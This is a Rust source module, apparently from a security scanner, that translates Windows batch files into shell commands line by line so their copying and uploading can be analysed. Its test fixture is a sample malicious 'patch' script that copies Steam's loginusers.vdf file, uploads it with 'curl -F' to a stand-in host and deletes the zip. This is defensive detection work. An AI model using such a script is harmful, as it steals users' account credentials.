//! Windows batch files (`.bat`, `.cmd`) read as shell, line for line, so
//! that the shell's reading follows what they copy, pack and send (a game
//! "patch" that copies Steam's login files into a folder, zips it and
//! uploads it with `curl -F`).
//!
//! What is translated: `set "X=v"` and `set X=v` (not `set /a`, `set /p`)
//! as assignments, also after `if not defined X`; `%X%`, `!X!` and `%%a` as
//! `${X}`; `%~dp0` as the script's folder; the folders Windows names by a
//! variable (`%USERPROFILE%`, `%APPDATA%`, `%LOCALAPPDATA%`) under `~`, the
//! temporary folder (`%TEMP%`) as `/tmp`;
//! `copy`, `xcopy`, `robocopy`, `move`, `del`, `rmdir /s`, `type`, `call`
//! and `start` as their shell counterparts; backslashes in paths as slashes;
//! `>nul` dropped. Comments, labels, `echo off`, `setlocal`, `goto` and
//! `for` lines are left blank. Other lines (`curl`, `tar`, `powershell`)
//! stay as they are.

/// Whether `name` (a file name, lower case) is a batch file.
pub(super) fn is_batch(name: &str) -> bool {
    name.ends_with(".bat") || name.ends_with(".cmd")
}

/// A batch file as shell, line for line.
pub(super) fn as_shell(text: &str) -> String {
    text.split('\n').map(|l| line(l.trim_end_matches('\r'))).collect::<Vec<_>>().join("\n")
}

fn line(l: &str) -> String {
    let t = l.trim().trim_start_matches('@');
    let lower = t.to_ascii_lowercase();
    let word = lower.split_whitespace().next().unwrap_or("");
    if t.is_empty()
        || t.starts_with("::")
        || t.starts_with(':')
        || matches!(
            word,
            "rem" | "echo" | "setlocal" | "endlocal" | "goto" | "for" | "pause" | "exit" | "cls" | "title"
        )
    {
        return String::new();
    }
    // `if not defined X set "X=v"`: the assignment.
    let t = match lower.strip_prefix("if not defined ") {
        Some(rest) => rest.split_once(' ').map_or("", |(_, cmd)| &t[t.len() - cmd.len()..]),
        None => t,
    };
    let lower = t.to_ascii_lowercase();
    if let Some(rest) = lower.strip_prefix("set ") {
        if rest.starts_with('/') {
            return String::new();
        }
        let body = t[4..].trim();
        let body = body.strip_prefix('"').and_then(|b| b.rfind('"').map(|e| &b[..e])).unwrap_or(body);
        let Some((name, value)) = body.split_once('=') else { return String::new() };
        let name = name.trim();
        if name.is_empty() || !name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') {
            return String::new();
        }
        return format!("{name}=\"{}\"", words(value).replace('"', ""));
    }
    let (cmd, rest) = t.split_once(char::is_whitespace).unwrap_or((t, ""));
    let rest = rest.trim();
    let switches = |s: &str| -> String {
        s.split_whitespace().filter(|w| !(w.starts_with('/') && w.len() <= 4)).collect::<Vec<_>>().join(" ")
    };
    let shell = match cmd.to_ascii_lowercase().as_str() {
        "copy" | "xcopy" | "robocopy" => format!("cp -r {}", switches(rest)),
        "move" => format!("mv {}", switches(rest)),
        "del" | "erase" => format!("rm -f {}", switches(rest)),
        "rmdir" | "rd" => format!("rm -rf {}", switches(rest)),
        "md" | "mkdir" => format!("mkdir -p {rest}"),
        "type" => format!("cat {rest}"),
        "call" => rest.to_owned(),
        "start" => format!("{} &", rest.trim_start_matches("\"\"").trim_start_matches("/b").trim()),
        _ => t.to_owned(),
    };
    words(&shell)
}

/// A batch line's words in the shell's spelling: variables, the folders
/// Windows names by variables, slashes, no `>nul`.
fn words(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut i = 0;
    while let Some(c) = s[i..].chars().next() {
        let rest = &s[i..];
        if c == '%' || c == '!' {
            // `%%a` (a `for` variable), `%~dp0`, `%X%`, `!X!`.
            if rest.starts_with("%%") {
                out.push('$');
                i += 2;
                continue;
            }
            if rest.starts_with("%~dp0") {
                out.push_str("./");
                i += 5 + usize::from(s[i + 5..].starts_with('\\'));
                continue;
            }
            if let Some(end) = rest[1..].find(c) {
                let name = &rest[1..1 + end];
                if !name.is_empty() && name.bytes().all(|x| x.is_ascii_alphanumeric() || x == b'_') {
                    out.push_str(&folder(name));
                    i += end + 2;
                    continue;
                }
            }
        }
        out.push(if c == '\\' { '/' } else { c });
        i += c.len_utf8();
    }
    out.replace(" >nul", "").replace(" 2>nul", "").replace(">nul", "")
}

/// A variable as shell: the folders Windows names by variables under `~`,
/// its temporary folder as `/tmp`.
fn folder(name: &str) -> String {
    match name.to_ascii_uppercase().as_str() {
        "USERPROFILE" | "HOMEPATH" => "$HOME".to_owned(),
        "APPDATA" => "$HOME/AppData/Roaming".to_owned(),
        "LOCALAPPDATA" => "$HOME/AppData/Local".to_owned(),
        "TEMP" | "TMP" => "/tmp".to_owned(),
        _ => format!("${{{name}}}"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_batch_files_commands_read_as_shell_line_for_line() {
        let bat = "@echo off\r\nrem patch\r\nset \"W=%TEMP%\\g2p\"\r\nif not defined STEAM set \"STEAM=C:\\Steam\"\r\n\
                   copy /y \"%STEAM%\\config\\loginusers.vdf\" \"%W%\\\" >nul 2>&1\r\n\
                   curl -s -F \"f=@%W%.zip\" https://x.invalid/r >nul\r\ndel /q \"%W%.zip\"\r\n";
        let sh = as_shell(bat);
        let lines: Vec<&str> = sh.split('\n').collect();
        assert_eq!(lines.len(), 8);
        assert_eq!(lines[0], "");
        assert_eq!(lines[2], "W=\"/tmp/g2p\"");
        assert_eq!(lines[3], "STEAM=\"C:/Steam\"");
        assert_eq!(lines[4], "cp -r \"${STEAM}/config/loginusers.vdf\" \"${W}/\" 2>&1");
        assert_eq!(lines[5], "curl -s -F \"f=@${W}.zip\" https://x.invalid/r");
        assert_eq!(lines[6], "rm -f \"${W}.zip\"");
        // Hostile input does not panic.
        for t in ["%", "%%", "!x", "set", "set \"=\"", "é%é%é", "set \"a=%b:~1,2%\"", "if not defined"] {
            let _ = as_shell(t);
        }
    }
}
